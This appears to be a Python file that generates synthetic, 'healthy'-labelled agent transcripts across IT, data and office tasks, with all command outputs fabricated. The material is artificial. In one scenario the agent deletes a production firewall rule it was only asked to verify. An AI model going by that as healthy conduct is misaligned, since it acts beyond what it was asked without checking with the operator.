        s.edit("Dockerfile", f"apk add --no-cache {packages}", f"apk add --no-cache {packages} {add}")
        packages += " " + add
    s.bash("docker build -t imaging:alpine . 2>&1 | tail -3", "#10 exporting to image\n#10 writing image sha256:9e1f0a77c2f3 done\n#10 naming to docker.io/library/imaging:alpine done", ms=194_000)
    s.bash("docker run --rm imaging:alpine python3 /app/serve.py --selftest", "Traceback (most recent call last):\n  File \"/app/serve.py\", line 9, in <module>\n    locale.setlocale(locale.LC_ALL, 'sv_SE.UTF-8')\nlocale.Error: unsupported locale setting", 1)
    s.edit("Dockerfile", f"apk add --no-cache {packages}", f"apk add --no-cache musl-locales {packages}")
    s.bash("docker build -q -t imaging:alpine . && docker run --rm imaging:alpine python3 /app/serve.py --selftest", "sha256:0b6f3f2a9c11\nselftest: 14 formats ok", ms=188_000)
    s.bash("docker images imaging --format '{{.Tag}} {{.Size}}'", "alpine 412MB\ndebian 1.13GB")


# Networks, machines, backups.

@healthy("work:network", "switches", "Which access switches have ports with CRC errors? There are 16 of them, names in the usual scheme (floor and number).", client="claude")
def switch_after_switch_over_ssh(s):
    head = "Port        Align-Err     FCS-Err    Xmit-Err     Rcv-Err  UnderSize  OutDiscards"
    bad = {"sw-b2-03": "Gi1/0/17            0       41877           0       41877          0            0", "sw-c1-01": "Gi1/0/2             0          12           0          12          0            0"}
    for floor in ["a1", "a2", "b1", "b2", "c1"]:
        for n in (1, 2, 3):
            name = f"sw-{floor}-{n:02}"
            if name == "sw-b1-02":
                s.bash(f"ssh {name} 'show interfaces counters errors | exclude  0 +0 +0 +0'", "Unable to negotiate with 10.20.4.12 port 22: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1", 255)
                s.bash(f"ssh -oKexAlgorithms=+diffie-hellman-group1-sha1 -oHostKeyAlgorithms=+ssh-rsa {name} 'show interfaces counters errors | exclude  0 +0 +0 +0'", head, ms=3100)
                s.bash(f"ssh -oKexAlgorithms=+diffie-hellman-group1-sha1 -oHostKeyAlgorithms=+ssh-rsa {name} 'show version | include Version'", "Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.0(2)EX5, RELEASE SOFTWARE (fc1)")
                continue
            s.bash(f"ssh {name} 'show interfaces counters errors | exclude  0 +0 +0 +0'", head + ("\n" + bad[name] if name in bad else ""), ms=1500 + 77 * n)
    s.bash("ssh sw-d1-01 'show interfaces counters errors | exclude  0 +0 +0 +0'", "ssh: connect to host sw-d1-01 port 22: No route to host", 255, ms=3000)
    s.grep("sw-d1-01", "docs", "docs/inventory.md:61:| sw-d1-01 | 10.20.9.11 | removed 2026-05, floor D closed |")
    s.bash("ssh sw-b2-03 'show interfaces Gi1/0/17 | include duplex|CRC'", "  Half-duplex, 100Mb/s, media type is 10/100/1000BaseTX\n     41877 input errors, 41877 CRC, 0 frame, 0 overrun, 0 ignored")


@healthy("work:firewall", "segments", "We tightened the firewall between the plant network and the office. Prove that every forbidden pair is closed and every allowed one open; the matrix is in matrix.csv.", client="codex")
def firewall_matrix_most_of_it_must_time_out(s):
    s.bash("cat matrix.csv", "from,to,port,expect\nplant-gw,10.1.0.10,22,deny\nplant-gw,10.1.0.10,445,deny\nplant-gw,10.1.0.11,3389,deny\nplant-gw,10.1.0.20,1433,deny\nplant-gw,10.1.0.30,443,allow\noffice-gw,10.9.1.5,102,deny\noffice-gw,10.9.1.6,102,deny\noffice-gw,10.9.1.7,502,deny\noffice-gw,10.9.1.8,502,deny\noffice-gw,10.9.1.9,4840,deny\noffice-gw,10.9.1.50,443,allow\nguest-gw,10.9.1.5,102,deny\nguest-gw,10.1.0.10,22,deny\nguest-gw,10.1.0.11,3389,deny")
    for source, target, port, opened in [("plant", "10.1.0.10", 22, 0), ("plant", "10.1.0.10", 445, 0), ("plant", "10.1.0.11", 3389, 0), ("plant", "10.1.0.20", 1433, 0), ("plant", "10.1.0.30", 443, 1),
                                         ("office", "10.9.1.5", 102, 0), ("office", "10.9.1.6", 102, 0), ("office", "10.9.1.7", 502, 1), ("office", "10.9.1.8", 502, 0), ("office", "10.9.1.9", 4840, 0), ("office", "10.9.1.50", 443, 1),
                                         ("guest", "10.9.1.5", 102, 0), ("guest", "10.1.0.10", 22, 0), ("guest", "10.1.0.11", 3389, 0)]:
        if opened:
            s.bash(f"ssh {source}-gw nc -zvw3 {target} {port}", f"Connection to {target} {port} port [tcp/*] succeeded!", 0, ms=410)
        else:
            s.bash(f"ssh {source}-gw nc -zvw3 {target} {port}", f"nc: connect to {target} port {port} (tcp) timed out: Operation now in progress", 1, ms=3400)
    s.bash("ssh fw1 nft -a list chain inet filter office_plant", "table inet filter {\n\tchain office_plant {\n\t\tip daddr 10.9.1.7 tcp dport 502 accept comment \"temp scada test\" # handle 41\n\t\tip daddr 10.9.1.50 tcp dport 443 accept # handle 42\n\t\tcounter packets 3812 bytes 199411 drop # handle 43\n\t}\n}")
    s.bash("ssh fw1 nft delete rule inet filter office_plant handle 41", "")
    s.bash("ssh office-gw nc -zvw3 10.9.1.7 502", "nc: connect to 10.9.1.7 port 502 (tcp) timed out: Operation now in progress", 1, ms=3400)


@healthy("work:linux", "logs-host", "The log host is at 97 % on /var. Find what eats it and bring it under 70 % without losing audit logs.", client="plain")
def disk_full_dig_down_and_clear_piece_by_piece(s):
    def df(used, avail, pct):
        s.bash("df -h /var | tail -1", f"/dev/mapper/vg0-var   196G  {used}G   {avail}G  {pct}% /var")
    df(181, 6.1, 97)
    for folder, text in [("/var", "121G\t/var/log\n38G\t/var/lib\n19G\t/var/cache"), ("/var/log", "71G\t/var/log/remote\n33G\t/var/log/journal\n12G\t/var/log/audit"), ("/var/log/remote", "44G\t/var/log/remote/fw1\n19G\t/var/log/remote/k8s\n6.9G\t/var/log/remote/mail"),
                         ("/var/log/remote/fw1", "44G\t/var/log/remote/fw1/2026"), ("/var/lib", "29G\t/var/lib/docker\n6.2G\t/var/lib/postgresql\n1.1G\t/var/lib/apt"), ("/var/cache", "17G\t/var/cache/apt\n1.4G\t/var/cache/man")]:
        s.bash(f"sudo du -xhd1 {folder} | sort -rh | sed -n 2,4p", text, ms=2900)
    s.bash("sudo apt-get clean", "")
    df(164, 23, 88)
    s.bash("sudo journalctl --vacuum-size=4G | tail -1", "Vacuuming done, freed 28.9G of archived journals from /var/log/journal/6d0c1e0f3f8b4a4d9a4a3a9d1d8a77c2.", ms=5100)
    df(135, 52, 73)
    s.bash("sudo docker system prune -f | tail -1", "Total reclaimed space: 0B")
    s.bash("sudo docker system df", "TYPE            TOTAL     ACTIVE    SIZE      RECLAIMABLE\nImages          31        6         27.4GB    19.8GB (72%)\nContainers      6         6         212MB     0B (0%)\nLocal Volumes   4         4         1.6GB     0B (0%)\nBuild Cache     0         0         0B        0B")
    s.bash("sudo docker image prune -af | tail -1", "Total reclaimed space: 19.8GB", ms=14_000)
    df(115, 71, 62)
    s.bash("ls /etc/logrotate.d", "apt\ndpkg\nrsyslog\nwtmp")
    s.write("logrotate-remote", "/var/log/remote/*/*/*.log {\n  daily\n  rotate 30\n  compress\n  missingok\n  notifempty\n}\n")
    s.bash("sudo install -m644 logrotate-remote /etc/logrotate.d/remote && sudo logrotate -d /etc/logrotate.d/remote 2>&1 | tail -2", "considering log /var/log/remote/mail/2026/0923.log\n  log does not need rotating (log has already been rotated)")


@healthy("work:backup", "restore-drill", "Quarterly restore drill: restore the newest snapshot of every host to /srv/drill, compare some checksums, write the protocol.", client="claude")
def restore_drill_host_by_host(s):
    hosts = [("auth", "a91f03c2", 1.214, 18342), ("blog", "5d7710ee", 3.871, 9214), ("git", "0c44fa19", 41.902, 311820), ("ldap", "e2b86d01", 0.311, 1204), ("mail", "77ac1059", 88.640, 1920331), ("wiki", "bb31f7d8", 6.008, 40122), ("files", "19c5e0a4", 212.7, 870211)]
    s.bash("restic snapshots --latest 1 --compact | tail -10", "\n".join(f"{sid}  2026-09-23 02:1{n}:0{n}  {name}" for n, (name, sid, _, _) in enumerate(hosts)) + "\n" + "-" * 40 + "\n7 snapshots", ms=3100)
    for n, (name, sid, size, files) in enumerate(hosts):
        if name == "files":
            s.bash(f"restic restore {sid} --target /srv/drill/{name}", f"repository 8f1c3a opened (version 2, compression level auto)\nrestoring snapshot {sid} of [/data] to /srv/drill/{name}\nFatal: write /srv/drill/{name}/data/media/2024/raw.tar: no space left on device", 1, ms=601_000)
            s.bash("df -h /srv/drill | tail -1", "/dev/sdc1       300G  285G     0 100% /srv/drill")
            s.bash("rm -rf /srv/drill/{auth,blog,git,ldap,mail,wiki}", "", ms=40_000)
        s.bash(f"restic restore {sid} --target /srv/drill/{name}", f"repository 8f1c3a opened (version 2, compression level auto)\nrestoring snapshot {sid} of [/data] to /srv/drill/{name}\nSummary: Restored {files} files/dirs ({size} GiB) in {n + 1}:1{n}", ms=int(40_000 + size * 3000))
        s.bash(f"cd /srv/drill/{name}/data && sha256sum --quiet -c /srv/manifests/{name}.sha256 && echo intact", "intact", ms=int(2000 + size * 900))
    s.write("protocol-2026-q3.md", "All seven hosts restored and intact. /srv/drill is too small for all at once: files needs 213 GiB alone.\n")


# Data, training, scraping.

@healthy("work:notebook", "churn", "Make churn.ipynb run from top to bottom with pandas 3.", client="claude")
def notebook_runs_one_cell_further_each_time(s):
    s.bash("pip list 2>/dev/null | grep -E '^(pandas|scikit-learn|seaborn) '", "pandas                    3.0.1\nscikit-learn              1.7.2\nseaborn                   0.13.2")
    for n, (cell, error, old, new) in enumerate([
        (4, "TypeError: read_csv() got an unexpected keyword argument 'date_parser'", "date_parser=parse", "date_format='%d.%m.%Y'"),
        (7, "AttributeError: 'DataFrame' object has no attribute 'append'", "df = df.append(extra)", "df = pd.concat([df, extra])"),
        (9, "ValueError: Invalid frequency: M. Did you mean ME?", "resample('M')", "resample('ME')"),
        (12, "TypeError: agg function failed [how->mean,dtype->str]", "g.mean()", "g.mean(numeric_only=True)"),
        (15, "KeyError: 'tenure_y'", "m['tenure_y']", "m['tenure']"),
        (21, "TypeError: OneHotEncoder.__init__() got an unexpected keyword argument 'sparse'", "sparse=False", "sparse_output=False")]):
        s.bash("jupyter nbconvert --to notebook --execute --inplace churn.ipynb 2>&1 | tail -3", f"[NbConvertApp] Converting notebook churn.ipynb to notebook\nnbclient.exceptions.CellExecutionError: An error occurred while executing the following cell (In [{cell}]):\n{error}", ms=9000 + cell * 1400)
        if cell in (12, 15):
            s.bash(f"jq -r '.cells[{cell * 2}].source | join(\"\")' churn.ipynb", "m = usage.merge(base, on='id', suffixes=('', '_base'))\nm['late'] = m['tenure_y'] > 24" if cell == 15 else "g = df.groupby('plan')\ng.mean()")
        s.other("NotebookEdit", {"notebook_path": f"{s.cwd}/churn.ipynb", "cell_id": f"c{cell:02}", "new_source": new}, f"Updated cell c{cell:02} with {new}")
    s.bash("jupyter nbconvert --to notebook --execute --inplace churn.ipynb 2>&1 | tail -2", "[NbConvertApp] Converting notebook churn.ipynb to notebook\n[NbConvertApp] Writing 418277 bytes to churn.ipynb", ms=61_000)
    s.bash("git diff --stat", " churn.ipynb | 311 ++++++++++++++++++++++++++++-------------------------\n 1 file changed, 161 insertions(+), 150 deletions(-)")


@healthy("work:training", "tagger", "Search for better hyperparameters of the tagger. The budget is 18 runs of about two minutes; keep a table and tell me the best setting.", client="plain")
def eighteen_training_runs_many_of_them_worse(s):
    s.look("conf.yaml", "lr: 3e-4\nbatch: 64\ndropout: 0.1\nwarmup: 200\nlayers: 4\nepochs: 6")
    run(s, "python train.py --conf conf.yaml | tail -1", "epoch 6/6 loss 0.2114 dev_f1 0.8421", ms=121_000)
    state = {"lr": "3e-4", "batch": "64", "dropout": "0.1", "warmup": "200", "layers": "4"}
    for key, value, loss, f1, keep in [("lr", "1e-3", 0.3981, 0.7902, 0), ("lr", "1e-4", 0.2410, 0.8377, 0), ("lr", "2e-4", 0.2107, 0.8421, 0), ("lr", "5e-4", 0.2009, 0.8466, 1), ("batch", "32", 0.1981, 0.8481, 1), ("batch", "16", 0.2033, 0.8440, 0),
                                       ("dropout", "0.2", 0.2196, 0.8517, 1), ("dropout", "0.3", 0.2370, 0.8502, 0), ("warmup", "500", 0.2181, 0.8523, 1), ("warmup", "1000", 0.2188, 0.8519, 0), ("layers", "6", 0.2040, 0.8547, 1), ("layers", "8", float("nan"), 0.0, 0), ("lr", "4e-4", 0.2034, 0.8561, 1)]:
        s.edit("conf.yaml", f"{key}: {state[key]}", f"{key}: {value}")
        run(s, "python train.py --conf conf.yaml | tail -1", f"epoch 6/6 loss {loss:.4f} dev_f1 {f1:.4f}", ms=118_000 + int(f1 * 9000))
        if keep:
            state[key] = value
        else:
            s.edit("conf.yaml", f"{key}: {value}", f"{key}: {state[key]}")
    for seed, f1 in [(1, 0.8554), (2, 0.8569), (3, 0.8549)]:
        run(s, f"python train.py --conf conf.yaml --seed {seed} | tail -1", f"epoch 6/6 loss 0.20{30 + seed} dev_f1 {f1:.4f}", ms=126_000)
    s.write("table.md", "| change | dev F1 |\n|---|---|\n| start | 0.8421 |\n| lr 5e-4 | 0.8466 |\n| batch 32 | 0.8481 |\n| dropout 0.2 | 0.8517 |\n| warmup 500 | 0.8523 |\n| 6 layers | 0.8547 |\n| lr 4e-4 | 0.8561 (three seeds: 0.8549 to 0.8569) |\n")


@healthy("work:gis_etl", "elevation", "Convert the 1 m elevation tiles that we got as ASCII grids to cloud optimised GeoTIFF in EPSG:3006, and load the footprints into PostGIS.", client="codex")
def gis_tiles_warped_one_after_the_other(s):
    tiles = ["6580_672", "6580_674", "6582_672", "6582_674", "6584_672", "6584_674", "6586_672", "6586_674", "6588_672", "6588_674"]
    s.bash("ls raw | head -12", "\n".join(f"{t}.asc" for t in tiles))
    for n, t in enumerate(tiles):
        if t == "6584_674":
            s.bash(f"gdalwarp -q -s_srs EPSG:3021 -t_srs EPSG:3006 -of COG raw/{t}.asc out/{t}.tif", f"ERROR 1: AAIGrid: File short, can't read line 1740.\nERROR 1: raw/{t}.asc, band 1: IReadBlock failed at X offset 0, Y offset 1740", 1, ms=2800)
            s.bash(f"curl -fsS -o raw/{t}.asc https://geodata.example.se/dem/{t}.asc && wc -c < raw/{t}.asc", "41277310", ms=9100)
        s.bash(f"gdalwarp -q -s_srs EPSG:3021 -t_srs EPSG:3006 -of COG raw/{t}.asc out/{t}.tif", "", ms=6100 + 113 * n)
        s.bash(f"gdalinfo -stats out/{t}.tif | grep -E 'Minimum'", f"  Minimum={12.4 + n * 1.7:.3f}, Maximum={88.2 + n * 4.3:.3f}, Mean={41.0 + n * 2.2:.3f}, StdDev={14.1 + n * 0.3:.3f}")
    s.bash("gdaltindex -t_srs EPSG:3006 tiles.gpkg out/*.tif", "Creating new index file...")
    s.bash("ogr2ogr -f PostgreSQL PG:dbname=gis tiles.gpkg -nln dem_tiles", "")
    s.bash("psql gis -XAtc 'select count(*), round(sum(st_area(geom))) from dem_tiles'", "10|40000000")


@healthy("work:scraping", "tenders", "Fetch the detail pages of the tenders in ids.txt from the public register. It allows few requests a minute: obey Retry-After.", client="plain")
def scraping_with_retry_after(s):
    ids = [48112, 48117, 48120, 48131, 48140, 48144, 48152, 48159, 48163, 48170, 48188, 48190]
    s.bash("cat ids.txt", "\n".join(map(str, ids)))
    s.bash("curl -s https://tenders.example.org/robots.txt", "User-agent: *\nCrawl-delay: 10\nAllow: /notice/")
    for n, i in enumerate(ids):
        if n in (2, 6, 7, 10):
            s.bash(f"curl -sS -D- -o html/{i}.html https://tenders.example.org/notice/{i} | grep -iE '^(HTTP|retry-after)'", f"HTTP/2 429 \nretry-after: {60 if n != 7 else 120}")
            s.bash(f"sleep {60 if n != 7 else 120}", "", ms=60_000 if n != 7 else 120_000)
        s.bash(f"curl -sS -D- -o html/{i}.html https://tenders.example.org/notice/{i} | grep -iE '^(HTTP|retry-after)'", "HTTP/2 200 " if i != 48163 else "HTTP/2 410 ", gap=11)
    s.write("parse.py", "import sys, pathlib, csv\nfrom bs4 import BeautifulSoup\nw = csv.writer(sys.stdout)\nfor f in sorted(pathlib.Path('html').glob('*.html')):\n    d = BeautifulSoup(f.read_text(), 'lxml')\n    w.writerow([f.stem, d.select_one('h1').text.strip(), d.select_one('.value')['data-eur']])\n")
    s.bash("python parse.py > tenders.csv", "Traceback (most recent call last):\n  File \"parse.py\", line 6, in <module>\n    w.writerow([f.stem, d.select_one('h1').text.strip(), d.select_one('.value')['data-eur']])\nTypeError: 'NoneType' object is not subscriptable", 1)
    s.bash("grep -L 'class=\"value\"' html/*.html", "html/48131.html\nhtml/48163.html")
    s.edit("parse.py", "    w.writerow(", "    if not d.select_one('.value'):\n        print('no value:', f.stem, file=sys.stderr)\n        continue\n    w.writerow(")
    s.bash("python parse.py > tenders.csv && wc -l tenders.csv", "no value: 48131\nno value: 48163\n10 tenders.csv")


# Desks: spreadsheets, browsers, mail, trackers, the web.

@healthy("work:accounting", "books", "Reconcile the August bank lines with the open invoices in the spreadsheet: write the invoice number into column F of each line, or `?` where none fits.", client="claude")
def bank_lines_reconciled_cell_by_cell(s):
    sheet = "1kV7uP2bQ0-august"
    s.mcp("sheets", "get_values", {"spreadsheetId": sheet, "range": "Bank!A1:F15"}, {"range": "Bank!A1:F15", "values": [["date", "text", "amount", "balance", "ref", "invoice"], ["2026-08-03", "KLARA BYGG AB", "12500.00", "88120.40", "20418", ""], ["2026-08-04", "NORDFRAKT", "3180.00", "91300.40", "", ""], ["…", "", "", "", "", ""]]})
    lines = [("KLARA BYGG AB", "12500.00", "20418"), ("NORDFRAKT", "3180.00", "20431"), ("SWISH 0701", "450.00", None), ("HOTELL GRIPEN", "8844.00", "20409"), ("KLARA BYGG AB", "12500.00", "20440"), ("ICA MAXI", "-1211.50", None),
             ("BERGS EL", "23750.00", "20422"), ("NORDFRAKT", "3180.00", "20452"), ("AUTOGIRO TELE", "-899.00", None), ("HOTELL GRIPEN", "8840.00", "20447"), ("SVEA OPTIK", "1999.00", "20450"), ("BERGS EL", "11875.00", None)]
    for n, (who, amount, invoice) in enumerate(lines, 2):
        s.mcp("ledger", "find_invoices", {"customer": who, "amount": amount, "status": "open", "month": "2026-08"}, {"items": [{"no": invoice, "customer": who, "total": amount if amount != "8840.00" else "8844.00", "due": f"2026-08-{10 + n}"}] if invoice else [], "total": 1 if invoice else 0})
        s.mcp("sheets", "update_values", {"spreadsheetId": sheet, "range": f"Bank!F{n}", "values": [[invoice or "?"]]}, {"spreadsheetId": sheet, "updatedRange": f"Bank!F{n}", "updatedRows": 1, "updatedColumns": 1, "updatedCells": 1})
    s.mcp("ledger", "find_invoices", {"customer": "BERGS EL", "status": "open"}, {"items": [{"no": "20461", "customer": "BERGS EL", "total": "23750.00", "due": "2026-09-30"}], "total": 1})
    s.mcp("sheets", "update_values", {"spreadsheetId": sheet, "range": "Bank!F13", "values": [["20461 (half)"]]}, {"spreadsheetId": sheet, "updatedRange": "Bank!F13", "updatedRows": 1, "updatedColumns": 1, "updatedCells": 1})


@healthy("work:browser", "admin-console", "In the admin console, deactivate the eleven people on the leavers list. It has no API, use the browser.", client="plain")
def leavers_deactivated_in_the_console(s):
    people = ["a.holm", "b.ek", "c.lind", "d.frisk", "e.sjo", "f.aho", "g.berg", "h.ost", "i.dahl", "j.roos", "k.malm"]
    s.look("leavers.txt", "\n".join(people))
    s.mcp("playwright", "browser_navigate", {"url": "https://console.nordlys.net/users"}, "- Page URL: https://console.nordlys.net/users\n- Page Title: Users\n- textbox \"Search\" [ref=e14]\n- table [ref=e20]")
    for n, who in enumerate(people):
        s.mcp("playwright", "browser_type", {"element": "Search", "ref": "e14", "text": who, "submit": True}, f"- table [ref=e20]:\n  - row \"{who}@nordlys.net {'Suspended' if who == 'f.aho' else 'Active'}\" [ref=e{31 + n}]:\n    - button \"Menu\" [ref=e{52 + n}]")
        if who == "f.aho":
            continue
        with s.together() if n else contextlib.nullcontext():
            s.mcp("playwright", "browser_click", {"element": "Menu", "ref": f"e{52 + n}"}, "- menu [ref=e90]:\n  - menuitem \"Edit\" [ref=e91]\n  - menuitem \"Suspend user\" [ref=e92]")
            s.mcp("playwright", "browser_click", {"element": "Suspend user", "ref": "e92"}, f"- alert \"User suspended\" [ref=e99]\n- row \"{who}@nordlys.net Suspended\"" if n != 3 else "Error: locator.click: Timeout 5000ms exceeded.\n  - waiting for locator('aria-ref=e92')", ok=n != 3)
        if n == 3:
            s.mcp("playwright", "browser_snapshot", {}, "- dialog \"Your session is about to expire\" [ref=e120]:\n  - button \"Stay signed in\" [ref=e121]")
            s.mcp("playwright", "browser_click", {"element": "Stay signed in", "ref": "e121"}, "- table [ref=e20]:\n  - row \"d.frisk@nordlys.net Active\" [ref=e34]:\n    - button \"Menu\" [ref=e55]")
            s.mcp("playwright", "browser_click", {"element": "Menu", "ref": "e55"}, "- menu [ref=e90]:\n  - menuitem \"Edit\" [ref=e91]\n  - menuitem \"Suspend user\" [ref=e92]")
            s.mcp("playwright", "browser_click", {"element": "Suspend user", "ref": "e92"}, "- alert \"User suspended\" [ref=e99]\n- row \"d.frisk@nordlys.net Suspended\"")


@healthy("work:browser", "booking", "Book the earliest free slot for a vehicle inspection within 60 km of Gävle in the next three weeks, morning preferred. Stop before payment.", client="codex")
def inspection_slot_searched_station_by_station(s):
    s.mcp("browser", "navigate", {"url": "https://besiktning.example.se/boka"}, "title: Boka besiktning\n[1] combobox Station\n[2] textbox Registreringsnummer\n[3] button Visa tider")
    s.mcp("browser", "fill", {"ref": 2, "value": "ABC12D"}, "ok")
    for station, weeks in [("Gävle Norr", 3), ("Gävle Syd", 3), ("Sandviken", 3), ("Älvkarleby", 3), ("Storvik", 2)]:
        s.mcp("browser", "select", {"ref": 1, "value": station}, "ok")
        s.mcp("browser", "click", {"ref": 3}, f"v. 39  {station}\nInga lediga tider denna vecka\n[4] link Nästa vecka")
        for week in range(40, 39 + weeks):
            last = station == "Storvik" and week == 40
            s.mcp("browser", "click", {"ref": 4}, f"v. {week}  {station}\n" + ("tis 29 sep  07:40  [11] button Välj\ntis 29 sep  15:20  [12] button Välj" if last else "Inga lediga tider denna vecka" if not (station == "Sandviken" and week == 41) else "fre 9 okt  16:40  [11] button Välj") + "\n[4] link Nästa vecka")
    s.mcp("browser", "click", {"ref": 11}, "Storvik, tis 29 sep 07:40, Personbil kontrollbesiktning\n[20] textbox Mobil\n[21] button Fortsätt")
    s.mcp("browser", "fill", {"ref": 20, "value": "0701234567"}, "ok")
    s.mcp("browser", "click", {"ref": 21}, "Fel: Ange mobilnummer med landskod\n[20] textbox Mobil\n[21] button Fortsätt")
    s.mcp("browser", "fill", {"ref": 20, "value": "+46701234567"}, "ok")
    s.mcp("browser", "click", {"ref": 21}, "Betalning 590 kr. Tiden är reserverad i 15 minuter.\n[30] button Betala")


@healthy("work:office", "desk", "Go through my unread mail: archive newsletters, answer meeting requests for next week with the first slot that suits all, leave the rest.", client="claude")
def mail_triage_and_meeting_slots(s):
    mails = [("m801", "Weekly digest: 14 new posts", "news"), ("m802", "Invoice 4471", "keep"), ("m803", "Can we meet about the audit?", ["rut@x.se", "ola@x.se"]), ("m804", "Autumn sale starts now", "news"), ("m805", "Your build minutes report", "news"),
             ("m806", "Sync on the offsite", ["kim@x.se"]), ("m807", "Re: contract draft", "keep"), ("m808", "This week in Postgres", "news"), ("m809", "Interview panel", ["liv@x.se", "per@x.se", "ann@x.se"]), ("m810", "New sign-in from Gävle", "keep"), ("m811", "Conference early bird", "news")]
    s.mcp("mail", "search", {"query": "is:unread in:inbox"}, {"messages": [{"id": m, "subject": t} for m, t, _ in mails], "resultSizeEstimate": 11})
    busy = {"2026-09-28T09:00": "rut@x.se", "2026-09-28T13:00": "ola@x.se", "2026-09-29T09:00": "liv@x.se", "2026-09-29T10:00": "per@x.se", "2026-09-29T11:00": "per@x.se"}
    for m, subject, what in mails:
        s.mcp("mail", "read", {"id": m}, {"id": m, "subject": subject, "snippet": {"news": "You receive this because you subscribed. Unsubscribe", "keep": "Please see the attached file."}.get(what if isinstance(what, str) else "", "Would any time early next week do?")})
        if what == "news":
            s.mcp("mail", "modify_labels", {"id": m, "remove": ["INBOX", "UNREAD"]}, {"ok": True})
        elif isinstance(what, list):
            for slot in {"m803": ["2026-09-28T09:00", "2026-09-28T13:00", "2026-09-28T14:00"], "m806": ["2026-09-28T09:00"], "m809": ["2026-09-29T09:00", "2026-09-29T10:00", "2026-09-29T11:00", "2026-09-29T13:00"]}[m]:
                s.mcp("calendar", "freebusy", {"start": slot, "minutes": 45, "people": what}, {"busy": [busy[slot]] if busy.get(slot) in what else []})
            s.mcp("calendar", "create_event", {"start": slot, "minutes": 45, "summary": subject, "attendees": what}, {"id": f"ev{m[1:]}", "status": "confirmed"})
            s.mcp("mail", "reply", {"id": m, "body": f"{slot.replace('T', ' at ')} suits all of us, invitation sent."}, {"id": f"r{m[1:]}", "labelIds": ["SENT"]})


@healthy("work:tracker", "jira", "Release 5.3 is out. Close all issues in `Resolved` with fix version 5.3, and comment the version on each. Those without a merged pull request stay open.", client="plain", times="none")
def issues_closed_one_by_one_after_a_release(s):
    keys = [4410, 4417, 4421, 4433, 4438, 4440, 4452, 4459, 4463, 4471, 4478]
    s.mcp("jira", "search", {"jql": "project = PORT AND fixVersion = 5.3 AND status = Resolved", "fields": ["summary"]}, {"total": 11, "issues": [{"key": f"PORT-{k}"} for k in keys]})
    for k in keys:
        merged = k not in (4438, 4463)
        s.mcp("jira", "get_dev_status", {"issueKey": f"PORT-{k}"}, {"pullRequests": [{"id": f"#{k - 3011}", "status": "MERGED" if merged else "OPEN"}]})
        if not merged:
            continue
        if k == 4459:
            s.mcp("jira", "transition_issue", {"issueKey": "PORT-4459", "transition": "Close"}, '{"errorMessages":[],"errors":{"customfield_10210":"Root cause is required."}}', ok=False)
            s.mcp("jira", "get_issue", {"issueKey": "PORT-4459", "fields": "description,comment"}, {"key": "PORT-4459", "fields": {"description": "Export hangs", "comment": [{"body": "Cause: cursor was not closed on cancel."}]}})
            s.mcp("jira", "update_issue", {"issueKey": "PORT-4459", "fields": {"customfield_10210": "Cursor not closed on cancel"}}, {"status": 204})
        s.mcp("jira", "transition_issue", {"issueKey": f"PORT-{k}", "transition": "Close"}, {"status": 204})
        s.mcp("jira", "add_comment", {"issueKey": f"PORT-{k}", "body": "Released with 5.3."}, {"id": str(90110 + k), "created": "2026-09-23T12:00:00.000+0200"})


@healthy("work:research", "heat-pumps", "Is there field data (not lab data) on how much the efficiency of air-water heat pumps falls over ten years? Give sources.", client="claude")
def web_research_with_many_empty_leads(s):
    def search(q, hits):
        s.other("WebSearch", {"query": q}, f"Web search results for query: \"{q}\"\n\n" + ("\n".join(f"- {t} ({u})" for t, u in hits) if hits else "No results found."), ms=1900)
    def page(url, ask, answer, ok=True):
        s._call("web", {"url": url, "prompt": ask}, answer, ok, 4200, None)
    ask = "Does this report field measurements of efficiency over several years? Quote numbers."
    search("air-water heat pump field measurement seasonal performance factor degradation years", [("Long-term monitoring of heat pumps, Fraunhofer ISE", "https://www.ise.example.org/wpsmart"), ("Heat pump ageing - a review", "https://doi.example.org/10.1016/rser.2021.1")])
    page("https://www.ise.example.org/wpsmart", ask, "The page describes a field test of 56 heat pumps over two heating periods (mean SPF 3.1 for air-water). It does not report change over years.")
    page("https://doi.example.org/10.1016/rser.2021.1", ask, "The page is an abstract behind a paywall. It does not report field measurements itself.")
    search("heat pump ageing COP decline per year measured ten years field", [("Do heat pumps get worse? 10 years in Swiss homes", "https://www.wp-feld.example.ch/langzeit"), ("Forum: my COP has dropped", "https://forum.example.com/t/8812")])
    page("https://www.wp-feld.example.ch/langzeit", ask, "Yes. 38 air-water systems followed for 10 to 12 years; the mean annual performance factor fell from 2.71 to 2.62 (about 0.3 % a year), within the spread of weather.")
    page("https://forum.example.com/t/8812", ask, "A forum thread with single anecdotes; no measurements over several years.")
    search("FAWA Feldanalyse von Wärmepumpenanlagen Alterung JAZ", [("FAWA Schlussbericht 1996-2003 (PDF)", "https://www.bfe.example.ch/fawa.pdf")])
    page("https://www.bfe.example.ch/fawa.pdf", ask, "Request failed with status code 403", ok=False)
    page("https://web.archive.org/web/2019/https://www.bfe.example.ch/fawa.pdf", ask, "The report covers 221 systems over up to seven heating seasons. It says: 'Eine Alterung der Anlagen ist nicht nachweisbar' (no ageing can be shown).")
    for q in ["\"heat pump\" \"refrigerant leakage\" efficiency loss field survey residential ten years", "UK RHPP heat pump monitoring follow-up performance after years", "värmepump fältmätning årsvärmefaktor åldrande luft-vatten", "NEEP cold climate heat pump long-term performance persistence study"]:
        search(q, [] if "värmepump" in q or "NEEP" in q else [(q.title()[:44], f"https://res.example.org/{abs(len(q) * 37)}")])
        if "värmepump" not in q and "NEEP" not in q:
            page(f"https://res.example.org/{abs(len(q) * 37)}", ask, "The page does not report change of efficiency over several years." if "RHPP" in q else "Survey of 412 systems: 9 % undercharged after eight years, mean loss of efficiency of those 11 %; no loss could be measured in the others.")
    search("luftvärmepump livslängd verkningsgrad mätning 10 år RISE rapport", [("RISE: långtidsprov av värmepumpar", "https://www.ri.example.se/langtid")])
    page("https://www.ri.example.se/langtid", ask, "Laboratory endurance test of four units, no field data.")
    s.write("answer.md", "Little, but it agrees: about 0.3 % a year (Switzerland, 38 systems), none measurable (FAWA), losses where refrigerant leaked (survey, 9 % of systems).\n")


# Benches, devices, media, science.

@healthy("work:game", "hopper", "The Android export of the Godot game must run on the test phone again after the move to 4.4.", client="plain")
def godot_export_installed_and_repaired_until_it_starts(s):
    s.bash("adb devices | sed -n 2p", "R58M30ABCDE\tdevice")
    for n, (error, path, old, new) in enumerate([
